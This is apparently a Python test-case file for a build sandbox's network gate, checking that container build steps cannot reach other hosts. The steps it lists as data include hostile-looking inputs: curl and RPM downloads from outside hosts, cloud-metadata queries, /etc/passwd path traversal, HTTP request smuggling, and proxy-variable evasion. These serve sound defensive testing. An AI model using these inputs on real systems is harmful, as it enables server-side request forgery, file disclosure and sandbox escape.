"""Other hosts: whatever a step asks the network for, it hears only the gate."""

from corpus import NOT_FETCHED, OUTSIDE, Case, python

TITLE = "Reaching another host"
UNREACHABLE = "[Errno 101] Network is unreachable"
MALFORMED = "(rule malformed-request)"


def _raw(request, more=""):
    """A RUN that sends bytes to the gate and waits until it has answered all of them."""
    return python(
        f'import socket; s = socket.create_connection(("127.0.0.1", 3128)); s.sendall(b"{request}"{more});'
        ' s.shutdown(socket.SHUT_WR); print(b"".join(iter(lambda: s.recv(9999), b"")))'
    )


CASES = [
    Case(
        "rpm_by_url",
        ("RUN dnf -y install http://mirror.example.com/evil-1-1.noarch.rpm || true",),
        ("http://mirror.example.com/evil-1-1.noarch.rpm", OUTSIDE),
    ),
    Case(
        "curl_out_and_no_word_of_it",
        ("RUN dnf -y install curl && dnf clean all && curl -s -o /usr/bin/tool http://example.com/tool || true",),
        ("http://example.com/tool", OUTSIDE),
    ),
    Case(
        "http_out_and_no_word_of_it",
        (python('import urllib.request as r; r.urlopen("http://example.com/tool")') + " || true",),
        ("http://example.com/tool", OUTSIDE),
    ),
    Case(
        "https_out",
        (python('import urllib.request as r; r.urlopen("https://example.com/tool")') + " || true",),
        ("example.com:443", OUTSIDE),
    ),
    # What pip does: a tunnel through the proxy, then TLS.
    Case(
        "pip_out",
        (
            python(
                'import http.client as c; h = c.HTTPSConnection("127.0.0.1", 3128); h.set_tunnel("pypi.org", 443);'
                ' h.request("GET", "/simple/tool/")'
            )
            + " || true",
        ),
        ("pypi.org:443", OUTSIDE),
    ),
    Case(
        "metadata_of_the_cloud",
        (python('import urllib.request as r; r.urlopen("http://169.254.169.254/latest/meta-data/")') + " || true",),
        ("http://169.254.169.254/latest/meta-data/", OUTSIDE),
    ),
    Case(
        "another_host_named_to_the_gate",
        (
            python(
                'import http.client as c; h = c.HTTPConnection("127.0.0.1", 3128);'
                ' h.request("GET", "/tool", headers={"Host": "example.com"}); print(h.getresponse().status)'
            ),
        ),
        ("example.com", OUTSIDE),
    ),
    Case(
        "proxy_variables_unset",
        (
            "RUN unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY; "
            + python('import urllib.request as r; r.urlopen("http://192.0.2.1/tool")').removeprefix("RUN "),
        ),
        ("exit code 1", UNREACHABLE),
    ),
    # A step has the gate for its proxy whatever the image's environment says.
    Case(
        "proxy_variables_of_the_image",
        (
            "ENV http_proxy=http://192.0.2.1:3128 HTTP_PROXY=http://192.0.2.1:3128 no_proxy=*",
            "RUN dnf -y --repofrompath=x,http://mirror.example.com/x --repo=x install notkoji",
        ),
        ("http://mirror.example.com/x/repodata/repomd.xml", OUTSIDE),
    ),
    Case(
        "socket_out",
        (python('import socket; socket.create_connection(("192.0.2.1", 80), 5)'),),
        ("exit code 1", UNREACHABLE),
    ),
    # What git and ssh do.
    Case(
        "git_protocol_out",
        (python('import socket; socket.create_connection(("192.0.2.1", 9418), 5)'),),
        ("exit code 1", UNREACHABLE),
    ),
    Case(
        "ipv6_out",
        (python('import socket; socket.create_connection(("2001:db8::1", 443), 5)'),),
        ("exit code 1", UNREACHABLE),
    ),
    Case(
        "datagram_out",
        (python('import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53))'),),
        ("exit code 1", UNREACHABLE),
    ),
    Case(
        "raw_socket",
        (python("import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"),),
        ("exit code 1", "[Errno 1] Operation not permitted"),
    ),
    Case(
        "dns_out",
        (python('import socket; socket.getaddrinfo("example.com", 80)'),),
        ("exit code 1", "Temporary failure in name resolution"),
    ),
    Case(
        "services_of_the_builder",
        (python('import socket; socket.create_connection("{registry}".split(":"), 5)'),),
        ("exit code 1", "[Errno 111] Connection refused"),
    ),
    Case(
        "path_out_of_the_repository",
        (
            python(
                'import http.client as c; h = c.HTTPConnection("127.0.0.1", 3128);'
                ' h.request("GET", "/repo/f40-build/../../../etc/passwd"); print(h.getresponse().status)'
            ),
        ),
        ("etc/passwd", "(rule path-escapes)"),
    ),
    Case(
        "path_out_of_the_repository_encoded",
        (
            python(
                'import http.client as c; h = c.HTTPConnection("127.0.0.1", 3128);'
                ' h.request("GET", "/repo/f40-build/%2e%2e/%2e%2e/etc/passwd"); print(h.getresponse().status)'
            ),
        ),
        ("etc/passwd", "(rule path-escapes)"),
    ),
    Case(
        "upload_to_the_gate",
        (
            python(
                'import http.client as c; h = c.HTTPConnection("127.0.0.1", 3128);'
                ' h.request("PUT", "/repo/f40-build/x.rpm", "x"); print(h.getresponse().status)'
            ),
        ),
        ("x.rpm", "(rule method-not-allowed)"),
    ),
    Case("add_by_url", ("ADD http://example.com/tool /usr/bin/tool",), ("`http://example.com/tool`", NOT_FETCHED)),
    Case(
        "add_by_git", ("ADD https://example.com/tool.git /srv/tool",), ("`https://example.com/tool.git`", NOT_FETCHED)
    ),
    Case("add_by_ssh", ("ADD ssh://git@example.com/tool /srv/tool",), ("`ssh://git@example.com/tool`", NOT_FETCHED)),
    Case("add_by_scp", ("ADD git@example.com:tool.git /srv/tool",), ("`git@example.com:tool.git`", NOT_FETCHED)),
    Case(
        "tunnel_to_the_builder",
        (
            python(
                'import http.client as c; h = c.HTTPConnection("127.0.0.1", 3128); h.set_tunnel("{registry}");'
                ' h.request("GET", "/v2/_catalog"); print(h.getresponse().read())'
            ),
        ),
        ("the build asked for 127.0.0.1:", OUTSIDE),
    ),
    Case(
        "host_header_of_the_builder",
        (
            python(
                'import http.client as c; h = c.HTTPConnection("127.0.0.1", 3128);'
                ' h.request("GET", "/v2/", headers={"Host": "mirror.example.com"}); print(h.getresponse().read())'
            ),
        ),
        ("mirror.example.com", OUTSIDE),
    ),
    *(
        Case(name, (_raw(request),), words)
        for name, request, words in (
            (
                "request_behind_another",
                "GET /repo/f40-build/repodata/repomd.xml HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n"
                "GET http://mirror.example.com/x HTTP/1.1\\r\\n\\r\\n",
                ("http://mirror.example.com/x", OUTSIDE),
            ),
            (
                "request_of_two_lengths",
                "GET / HTTP/1.1\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
                ("both `transfer-encoding` and `content-length`", MALFORMED),
            ),
            (
                "request_of_two_hosts",
                "GET / HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nHost: mirror.example.com\\r\\n\\r\\n",
                ("several headers `host`", MALFORMED),
            ),
            ("request_of_another_version", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n", (MALFORMED,)),
        )
    ),
    Case(
        "request_without_end",
        (_raw("GET / HTTP/1.1\\r\\nA: ", ' + b"a" * 20000'),),
        ("more than 16384 bytes", MALFORMED),
    ),
]
